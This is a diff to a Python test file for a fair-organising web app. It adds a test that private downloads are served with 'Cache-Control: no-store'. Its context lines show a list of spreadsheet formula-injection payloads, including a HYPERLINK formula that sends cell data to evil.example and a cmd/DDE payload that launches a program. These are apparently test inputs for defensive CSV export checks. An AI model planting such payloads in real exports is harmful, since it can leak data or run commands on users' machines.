@@ -123,6 +123,17 @@ def test_downloads_say_their_charset_once(client, auth, fairs, setup):
     assert client.get(f"/fairs/{fair.id}/agenda.ics").headers["Content-Type"] == "text/calendar; charset=utf-8"
 
 
+def test_private_downloads_are_never_stored(client, auth, fairs, setup):
+    fair, keys = _published(fairs, setup)
+    auth.login("organizer@example.com")
+    for path in ("schedule.csv", "table-cards", "schedule", "figures"):
+        assert client.get(f"/fairs/{fair.id}/{path}").headers.get("Cache-Control") == "no-store", path
+    auth.logout()
+    auth.login("member@example.com")
+    for path in ("agenda.ics", "agenda"):
+        assert client.get(f"/fairs/{fair.id}/{path}").headers.get("Cache-Control") == "no-store", path
+
+
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1")
 
